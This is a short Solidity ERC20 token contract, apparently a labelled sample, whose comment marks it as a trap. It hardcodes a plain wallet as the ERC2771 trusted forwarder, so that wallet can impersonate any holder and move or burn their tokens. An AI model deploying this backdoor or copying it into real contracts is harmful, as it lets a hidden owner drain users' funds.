// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC2771Context} from "@openzeppelin/contracts/metatx/ERC2771Context.sol";
import {Context} from "@openzeppelin/contracts/utils/Context.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

// Trap: OpenZeppelin's ERC2771Context as it is, for gasless transfers, but the trusted forwarder is a wallet and not a contract that checks signatures. Sprung by: the hidden wallet calls transfer(wallet, all) with the victim's address behind the arguments.
contract EForwarder is ERC20, ERC2771Context {
    constructor() ERC20("Gasless Dollar", "GASLESS") ERC2771Context(0x15d34AAf54267DB7D7c367839AAf71A00a2C6A65) {
        _mint(msg.sender, 1_000_000_000 ether);
    }

    function burn(uint256 amount) external {
        _burn(_msgSender(), amount);
    }

    function _msgSender() internal view override(Context, ERC2771Context) returns (address) {
        return ERC2771Context._msgSender();
    }

    function _msgData() internal view override(Context, ERC2771Context) returns (bytes calldata) {
        return ERC2771Context._msgData();
    }

    function _contextSuffixLength() internal view override(Context, ERC2771Context) returns (uint256) {
        return ERC2771Context._contextSuffixLength();
    }
}
